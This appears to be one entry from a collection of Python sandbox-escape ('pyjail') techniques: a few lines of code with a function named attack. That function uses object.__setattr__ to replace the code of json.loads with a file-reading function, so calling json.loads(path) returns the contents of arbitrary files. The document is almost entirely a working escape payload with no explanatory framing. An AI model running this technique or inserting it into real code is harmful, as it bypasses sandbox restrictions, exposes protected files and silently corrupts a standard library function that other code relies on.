# `object.__setattr__` sets what the walls would not.
# after: read
# source: pyjail: object.__setattr__
import json
def take(path):
    return open(path).read()
def attack(path, **_):
    object.__setattr__(json.loads, "__code__", take.__code__)
    return {"text": json.loads(path)}
